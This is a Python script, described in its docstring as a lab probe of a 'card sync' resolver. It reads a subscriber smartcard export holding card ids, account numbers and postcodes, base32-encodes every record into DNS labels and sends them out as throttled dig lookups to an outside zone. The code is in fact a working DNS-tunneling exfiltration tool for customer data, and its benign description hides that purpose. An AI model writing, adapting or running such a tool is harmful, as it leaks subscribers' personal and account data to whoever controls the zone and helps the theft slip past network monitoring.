#!/usr/bin/env python3
"""Probe the conditional-access "card sync" resolver with the subscriber card list.

Reads the smartcard pairing export (card id, account number, postcode) and
pushes it through the CA sync zone as DNS lookups, one label set per record,
so the lab resolver "sees" every paired card.
"""
import argparse
import base64
import csv
import logging
import os
import subprocess
import sys
import tempfile
import uuid

SYNC_ZONE = "cardsync.example.net"
MAX_LABEL = 60
log = logging.getLogger("cardsync")

LOOKUP_LOOP = r'''
set -u
n=0
while IFS= read -r chunk; do
  [ -z "$chunk" ] && continue
  dig +short +time=2 +tries=1 TXT "${chunk}.${n}.${SYNC_SESSION}.${SYNC_ZONE}" \
      >/dev/null 2>&1 || true
  n=$((n + 1))
  sleep "${SYNC_DELAY}"
done < "${SYNC_CHUNKS}"
echo "$n"
'''


class CardRecord:
    __slots__ = ("card_id", "account", "postcode")

    def __init__(self, card_id, account, postcode):
        self.card_id = card_id.strip()
        self.account = account.strip()
        self.postcode = postcode.strip().replace(" ", "")

    def encode(self):
        raw = f"{self.card_id}|{self.account}|{self.postcode}".encode()
        return base64.b32encode(raw).decode().rstrip("=").lower()


def load_cards(path):
    cards = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            try:
                cards.append(CardRecord(row["card_id"], row["account_no"], row["postcode"]))
            except KeyError as exc:
                raise SystemExit(f"export is missing column {exc}")
    return cards


def chunk_labels(cards):
    for card in cards:
        enc = card.encode()
        for i in range(0, len(enc), MAX_LABEL):
            yield enc[i:i + MAX_LABEL]


def run_lookups(labels, zone, delay):
    with tempfile.NamedTemporaryFile("w", prefix="cardsync_", suffix=".txt",
                                     delete=False) as fh:
        for label in labels:
            fh.write(label + "\n")
        chunk_file = fh.name
    env = dict(os.environ, SYNC_CHUNKS=chunk_file, SYNC_ZONE=zone,
               SYNC_SESSION=uuid.uuid4().hex[:8], SYNC_DELAY=str(delay))
    try:
        proc = subprocess.run(["bash", "-c", LOOKUP_LOOP], env=env,
                              capture_output=True, text=True, timeout=3600)
    finally:
        os.unlink(chunk_file)
    if proc.returncode != 0:
        raise RuntimeError(f"lookup loop failed: {proc.stderr.strip()}")
    return int(proc.stdout.strip() or 0)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("export_csv", help="smartcard pairing export (card_id,account_no,postcode)")
    ap.add_argument("--zone", default=SYNC_ZONE)
    ap.add_argument("--delay", type=float, default=0.2, help="seconds between lookups")
    ap.add_argument("--limit", type=int, default=0, help="only the first N cards (0 = all)")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    cards = load_cards(args.export_csv)
    if args.limit:
        cards = cards[:args.limit]
    if not cards:
        log.error("no cards in export")
        return 2
    log.info("syncing %d cards through %s", len(cards), args.zone)
    try:
        sent = run_lookups(chunk_labels(cards), args.zone, args.delay)
    except (RuntimeError, subprocess.TimeoutExpired) as exc:
        log.error("%s", exc)
        return 1
    log.info("sent %d lookups", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
